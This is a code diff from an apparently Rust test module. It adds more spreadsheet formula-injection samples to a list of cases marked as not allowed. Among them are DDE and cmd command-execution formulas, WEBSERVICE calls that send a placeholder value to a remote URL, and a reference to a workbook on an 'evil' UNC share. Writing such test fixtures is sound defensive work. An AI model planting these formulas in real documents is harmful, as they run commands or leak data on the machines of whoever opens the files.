@@ -134,6 +134,10 @@ pub(crate) fn all() -> Vec<(String, Vec<u8>, bool)> {
         format!("of:=['file:///{harm}'#$Sheet1.A1]"),
         format!("of:=WEBSERVICE(\"http://{harm}\")"),
         format!("msoxl:=cmd|'/c {harm}'!A0"),
+        format!("of:=DDE (\"soffice\";\"{harm}\";\"a\")"),
+        format!("of:=COM.MICROSOFT.WEBSERVICE (\"http://{harm}\")"),
+        format!("of:=IF([$'a\"b'.B1]=0;WEBSERVICE(\"http://{harm}\");1)"),
+        format!("of:='\\\\evil\\[{harm}.xlsx]S'!A1"),
     ] {
         add(&formula, sheet(&formula), false);
     }
